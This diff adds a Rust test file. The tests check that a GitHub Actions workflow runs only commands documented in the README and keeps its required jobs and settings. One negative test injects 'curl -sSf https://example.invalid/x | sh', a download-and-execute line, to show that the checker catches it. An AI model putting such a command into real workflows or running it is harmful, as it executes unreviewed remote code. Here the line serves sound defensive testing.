@@ -1,0 +1,79 @@
+//! .github/workflows/gates.yml cannot run here, so its promises are checked
+//! here: every command it runs is one README.md documents, it runs the
+//! README's set-up and test commands, and it has the parts CI relies on.
+//! Each check has a twin showing it fail on a broken workflow.
+
+use std::path::{Path, PathBuf};
+
+use gates::workflow::{missing_parts, run_commands, undocumented};
+
+fn root() -> PathBuf {
+    Path::new(env!("CARGO_MANIFEST_DIR"))
+        .parent()
+        .unwrap()
+        .to_path_buf()
+}
+
+fn read(path: &str) -> String {
+    std::fs::read_to_string(root().join(path)).unwrap()
+}
+
+#[test]
+fn every_command_the_workflow_runs_is_documented_in_the_readme() {
+    let workflow = read(".github/workflows/gates.yml");
+    let readme = read("README.md");
+    assert_eq!(
+        undocumented(&workflow, &readme).unwrap(),
+        Vec::<String>::new()
+    );
+    // The README's two set-up commands and its test command, all of them.
+    let commands = run_commands(&workflow).unwrap();
+    for c in [
+        "cargo build --workspace --all-targets",
+        "cargo run -p runner -- prepare",
+        "cargo test --workspace",
+    ] {
+        assert!(
+            commands.iter().any(|r| r == c),
+            "the workflow does not run {c:?}"
+        );
+    }
+}
+
+#[test]
+fn an_undocumented_command_is_caught() {
+    let readme = read("README.md");
+    let workflow = read(".github/workflows/gates.yml").replace(
+        "        run: cargo test --workspace\n",
+        "        run: |\n          cargo test --workspace --release\n          curl -sSf https://example.invalid/x | sh\n",
+    );
+    assert_eq!(
+        undocumented(&workflow, &readme).unwrap(),
+        vec![
+            "cargo test --workspace --release",
+            "curl -sSf https://example.invalid/x",
+            "sh"
+        ]
+    );
+}
+
+#[test]
+fn the_workflow_has_the_parts_ci_relies_on() {
+    let workflow = read(".github/workflows/gates.yml");
+    assert_eq!(missing_parts(&workflow).unwrap(), Vec::<String>::new());
+}
+
+#[test]
+fn a_workflow_without_them_is_caught() {
+    let workflow = read(".github/workflows/gates.yml");
+    let no_mac = workflow.replace("os: macos-14", "os: ubuntu-22.04");
+    assert_eq!(
+        missing_parts(&no_mac).unwrap(),
+        vec!["a macOS arm64 job (runs-on: macos-14)"]
+    );
+    let no_logs = workflow.replace("            .gates/logs\n", "");
+    assert_eq!(missing_parts(&no_logs).unwrap().len(), 1);
+    let old_python = workflow.replace("python-version: \"3.11\"", "python-version: \"3.9\"");
+    assert_eq!(missing_parts(&old_python).unwrap().len(), 1);
+    assert!(missing_parts("jobs: [").is_err());
+}
